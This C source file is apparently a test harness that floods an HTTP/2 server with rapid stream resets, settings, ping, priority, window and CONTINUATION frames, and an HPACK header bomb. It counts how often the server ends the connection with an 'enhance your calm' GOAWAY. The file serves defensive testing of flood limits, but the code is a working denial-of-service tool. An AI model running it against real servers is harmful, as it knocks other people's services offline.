// SPDX-License-Identifier: Apache-2.0
/*
 * flood.c - sends an HTTP/2 server what costs it more than us, as fast as it takes it.
 *
 * For: tests/e2e/test_floods.py. usage: flood HOST PORT KIND SECONDS
 * How: one connection at a time; when the server ends it, another one after PAUSE_MS. Frames are
 * made 64 KiB at a time. Answers are read, for the code of GOAWAY, but not by the kinds that say so.
 * Prints, at the end: frames, connections, how many of these ended with GOAWAY(ENHANCE_YOUR_CALM),
 * how many in another way, and how long the first one lived.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CHUNK (64 << 10)
#define ROOM (CHUNK + (40 << 10)) /* and the longest frames that begin within it */
#define PAUSE_MS 100
#define CALM 11

enum { DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION };

struct flood {
	struct sockaddr_in to;
	int fd;
	uint32_t stream; /* the next one */
	uint8_t out[ROOM];
	size_t out_len, out_at;
	uint8_t in[CHUNK];
	size_t in_len, skip; /* bytes of a frame that is not looked at */
	int code;            /* of a GOAWAY; -1: none */
	uint64_t frames, connections, calm, other;
	double first_s;
};

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void put(struct flood *f, uint8_t type, uint8_t flags, uint32_t stream, const void *payload,
		size_t len)
{
	uint8_t head[9] = { (uint8_t)(len >> 16),
			    (uint8_t)(len >> 8),
			    (uint8_t)len,
			    type,
			    flags,
			    (uint8_t)(stream >> 24),
			    (uint8_t)(stream >> 16),
			    (uint8_t)(stream >> 8),
			    (uint8_t)stream };

	memcpy(f->out + f->out_len, head, sizeof(head));
	if (len > 0)
		memcpy(f->out + f->out_len + sizeof(head), payload, len);
	f->out_len += sizeof(head) + len;
	f->frames++;
}

/* ---- the kinds: each makes some frames ---- */

/* POST http://a/echo */
static const uint8_t request[] = "\x83\x86\x04\x05/echo\x01\x01"
				 "a";
#define REQUEST request, sizeof(request) - 1

static void open_stream(struct flood *f, uint8_t flags)
{
	put(f, HEADERS, flags, f->stream, REQUEST);
	f->stream += 2;
}

static void reset(struct flood *f)
{
	open_stream(f, 5);
	put(f, RST, 0, f->stream - 2, "\0\0\0\x08", 4);
}

static void made_reset(struct flood *f)
{
	open_stream(f, 5);
	put(f, WINDOW, 0, f->stream - 2, "\0\0\0\0", 4);
}

static void half_closed(struct flood *f)
{
	open_stream(f, 5);
	put(f, DATA, 0, f->stream - 2, "x", 1);
}

static void continuation(struct flood *f)
{
	if (f->stream == 1)
		open_stream(f, 0);
	put(f, CONTINUATION, 0, f->stream - 2, "", 0);
}

static void ping(struct flood *f)
{
	put(f, PING, 0, 0, "pingping", 8);
}

static void settings(struct flood *f)
{
	put(f, SETTINGS, 0, 0, "\0\4\0\0\0\1\0\4\0\1\0\0", 12);
}

static void priority(struct flood *f)
{
	if (f->stream == 1)
		open_stream(f, 4);
	put(f, PRIORITY, 0, 1, "\0\0\0\0\1", 5);
}

static void window(struct flood *f)
{
	if (f->stream == 1)
		open_stream(f, 4);
	put(f, WINDOW, 0, 1, "\0\0\0\1", 4);
}

static void empty(struct flood *f)
{
	if (f->stream == 1)
		open_stream(f, 4);
	put(f, DATA, 0, 1, "", 0);
}

static void tiny(struct flood *f)
{
	if (f->stream == 1)
		open_stream(f, 4);
	put(f, DATA, 0, 1, "x", 1);
}

static void unknown(struct flood *f)
{
	put(f, 0xfa, 0, 0, "", 0);
}

/* 4,000 bytes that enter the table once, and then a byte for each time that they are meant. */
static void bomb(struct flood *f)
{
	static uint8_t block[16000];
	size_t len = sizeof(request) - 1;

	memcpy(block, REQUEST);
	if (f->stream == 1) {
		memcpy(block + len, "\x40\x01x\x7f\xa1\x1e", 6);
		memset(block + len + 6, 'y', 4000);
		len += 4006;
	} else {
		memset(block + len, 0xbe, sizeof(block) - len);
		len = sizeof(block);
	}
	put(f, HEADERS, 5, f->stream, block, len);
	f->stream += 2;
}

static const struct kind {
	const char *name;
	void (*make)(struct flood *f);
	bool deaf; /* reads no answers */
} kinds[] = {
	{ "reset", reset, false },
	{ "made-reset", made_reset, false },
	{ "half-closed", half_closed, false },
	{ "continuation", continuation, false },
	{ "ping", ping, false },
	{ "ping-deaf", ping, true },
	{ "settings", settings, false },
	{ "settings-deaf", settings, true },
	{ "priority", priority, false },
	{ "window", window, false },
	{ "empty", empty, false },
	{ "tiny", tiny, false },
	{ "unknown", unknown, false },
	{ "bomb", bomb, false },
};

/* ---- the connection ---- */

static bool start(struct flood *f)
{
	static const char greeting[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

	f->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (f->fd < 0 || connect(f->fd, (struct sockaddr *)&f->to, sizeof(f->to)) < 0)
		return false;
	fcntl(f->fd, F_SETFL, O_NONBLOCK);
	f->stream = 1;
	f->code = -1;
	f->in_len = f->skip = f->out_at = 0;
	f->out_len = sizeof(greeting) - 1;
	memcpy(f->out, greeting, f->out_len);
	put(f, SETTINGS, 0, 0, "", 0);
	f->connections++;
	return true;
}

/* Looks for GOAWAY. */
static void frames_read(struct flood *f)
{
	uint8_t *at = f->in;

	while (f->in_len > 0) {
		size_t n = f->skip < f->in_len ? f->skip : f->in_len;
		size_t size;

		at += n;
		f->in_len -= n;
		f->skip -= n;
		if (f->skip > 0 || f->in_len < 9)
			break;
		size = (size_t)at[0] << 16 | (size_t)at[1] << 8 | at[2];
		if (at[3] == GOAWAY && f->in_len < 17)
			break;
		if (at[3] == GOAWAY)
			f->code = at[16];
		f->skip = 9 + size;
	}
	memmove(f->in, at, f->in_len);
}

/* False: the connection has ended. */
static bool turn(struct flood *f, const struct kind *kind)
{
	struct pollfd p = { f->fd, (short)(kind->deaf ? POLLOUT : POLLIN | POLLOUT), 0 };
	ssize_t n;

	if (poll(&p, 1, 200) == 0)
		return true;
	if (p.revents & (POLLIN | POLLERR | POLLHUP)) {
		n = recv(f->fd, f->in + f->in_len, sizeof(f->in) - f->in_len, 0);
		if (n == 0 || (n < 0 && errno != EAGAIN))
			return false;
		f->in_len += n > 0 ? (size_t)n : 0;
		frames_read(f);
	}
	if (!(p.revents & POLLOUT) || f->code >= 0)
		return true;
	if (f->out_at == f->out_len) {
		f->out_at = f->out_len = 0;
		while (f->out_len < CHUNK)
			kind->make(f);
	}
	n = send(f->fd, f->out + f->out_at, f->out_len - f->out_at, 0);
	f->out_at += n > 0 ? (size_t)n : 0;
	return n >= 0 || errno == EAGAIN || f->code >= 0 || p.revents & POLLIN;
}

static void run(struct flood *f, const struct kind *kind, double seconds)
{
	double begun = now();

	while (now() - begun < seconds) {
		if (!start(f)) {
			perror("flood: connect");
			exit(1);
		}
		while (now() - begun < seconds && turn(f, kind))
			continue;
		close(f->fd);
		if (now() - begun >= seconds && f->code < 0)
			break;
		f->calm += f->code == CALM;
		f->other += f->code != CALM;
		if (f->first_s == 0)
			f->first_s = now() - begun;
		usleep(PAUSE_MS * 1000);
	}
}

int main(int argc, char **argv)
{
	static struct flood f = { .fd = -1 };

	signal(SIGPIPE, SIG_IGN);
	f.to.sin_family = AF_INET;
	for (size_t i = 0; argc == 5 && i < sizeof(kinds) / sizeof(*kinds); i++) {
		if (strcmp(argv[3], kinds[i].name) != 0 ||
		    inet_pton(AF_INET, argv[1], &f.to.sin_addr) != 1)
			continue;
		f.to.sin_port = htons((uint16_t)atoi(argv[2]));
		run(&f, &kinds[i], atof(argv[4]));
		printf("{\"frames\": %llu, \"connections\": %llu, \"calm\": %llu, \"other\": %llu, "
		       "\"first_s\": %.3f}\n",
		       (unsigned long long)f.frames, (unsigned long long)f.connections,
		       (unsigned long long)f.calm, (unsigned long long)f.other, f.first_s);
		return 0;
	}
	fprintf(stderr, "usage: flood HOST PORT KIND SECONDS\n");
	return 2;
}
